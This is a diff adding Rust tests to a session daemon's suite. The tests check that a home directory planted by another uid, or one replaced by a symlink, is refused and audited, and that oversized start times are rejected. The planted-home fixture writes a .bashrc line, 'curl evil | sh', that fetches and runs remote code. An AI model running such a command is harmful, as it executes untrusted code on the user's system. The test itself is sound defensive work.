@@ -153,6 +153,108 @@ fn sessions_open_close_and_are_reaped_when_the_leader_is_gone() {
 }
 
 #[test]
+fn a_home_planted_by_another_uid_is_refused_and_the_session_still_opens() {
+    let bus = TestBus::start();
+    let d = TestDaemon::start(&bus);
+    let uid = d.create_user("alice", "user", PW);
+    let bob = d.create_user("bob", "user", PW);
+    let base = d.home_base();
+    std::fs::create_dir_all(&base).unwrap_or_else(|e| panic!("{e}"));
+    // Someone else (uid 4242) made alice's home before her first login,
+    // with a .bashrc of their choosing.
+    let planted = base.join("alice");
+    std::fs::create_dir(&planted).unwrap_or_else(|e| panic!("{e}"));
+    std::fs::write(planted.join(".bashrc"), "curl evil | sh\n").unwrap_or_else(|e| panic!("{e}"));
+    std::os::unix::fs::chown(&planted, Some(roster_tests::STRANGER_UID), Some(4242))
+        .unwrap_or_else(|e| panic!("{e}"));
+    // And bob's is a link to somewhere else.
+    let elsewhere = d.dir().join("elsewhere");
+    std::fs::create_dir(&elsewhere).unwrap_or_else(|e| panic!("{e}"));
+    std::os::unix::fs::symlink(&elsewhere, base.join("bob")).unwrap_or_else(|e| panic!("{e}"));
+
+    for (user, uid, why) in [
+        ("alice", uid, "owned by uid 4242".to_owned()),
+        ("bob", bob, "symbolic link".to_owned()),
+    ] {
+        let mut leader = run_as(uid, "sleep 300");
+        let pid = leader.id();
+        wait_for("the leader", || start_time(pid) > 0);
+        let opened = open_session(&d, user, pid, start_time(pid)).expect_ok();
+        let reply = &opened.json()["ok"];
+        assert_eq!(reply["home_created"], false, "{reply}");
+        let message = reply["message"].as_str().unwrap_or("");
+        assert!(message.contains("not yours"), "{message}");
+        assert!(message.contains(&why), "{message}");
+        assert_eq!(live_sessions(&d, user).len(), 1, "the session is open");
+        let audit = d.audit_log();
+        let line = audit
+            .lines()
+            .rfind(|l| {
+                l.contains("action=pam.open_session") && l.contains(&format!("target={user}"))
+            })
+            .unwrap_or_else(|| panic!("no audit line for {user}:\n{audit}"));
+        assert!(line.contains("home=refused"), "{line}");
+        assert!(line.contains(&why), "{line}");
+        assert!(
+            d.stderr_log().contains("refusing the home"),
+            "{}",
+            d.stderr_log()
+        );
+        let _ = leader.kill();
+        let _ = leader.wait();
+    }
+    // Nothing adopted: the planted home keeps its owner and its files, and
+    // nothing was written through the link.
+    let meta = std::fs::metadata(&planted).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(meta.uid(), roster_tests::STRANGER_UID);
+    assert_eq!(
+        std::fs::read_to_string(planted.join(".bashrc")).unwrap_or_default(),
+        "curl evil | sh\n"
+    );
+    assert_eq!(
+        std::fs::read_dir(&elsewhere).map(|e| e.count()).ok(),
+        Some(0)
+    );
+}
+
+#[test]
+fn a_start_time_past_i64_max_is_refused_and_nothing_is_stored() {
+    let bus = TestBus::start();
+    let d = TestDaemon::start(&bus);
+    d.create_user("alice", "user", PW);
+    // A pid no process has (above any pid_max), so rosterd can't compare
+    // the start time with the process's: core must refuse it.
+    let no_such_pid = 4_000_000_000u32;
+    let out = open_session(&d, "alice", no_such_pid, u64::MAX);
+    assert_eq!(
+        out.probe_error().as_deref(),
+        Some("InvalidArgument"),
+        "{}",
+        out.stdout
+    );
+    assert!(out.stdout.contains("start time"), "{}", out.stdout);
+    assert_eq!(d.sqlite("SELECT count(*) FROM sessions").trim(), "0");
+    let out = d
+        .probe(
+            "Pam.CloseSession",
+            &[&q("alice"), &no_such_pid.to_string(), &u64::MAX.to_string()],
+        )
+        .run();
+    assert_eq!(
+        out.probe_error().as_deref(),
+        Some("InvalidArgument"),
+        "{}",
+        out.stdout
+    );
+    // The largest that fits is taken, and stored as it came.
+    open_session(&d, "alice", no_such_pid, i64::MAX as u64).expect_ok();
+    assert_eq!(
+        d.sqlite("SELECT leader_start FROM sessions").trim(),
+        i64::MAX.to_string()
+    );
+}
+
+#[test]
 fn the_first_session_creates_a_private_home_from_skel() {
     let bus = TestBus::start();
     let d = TestDaemon::start(&bus);
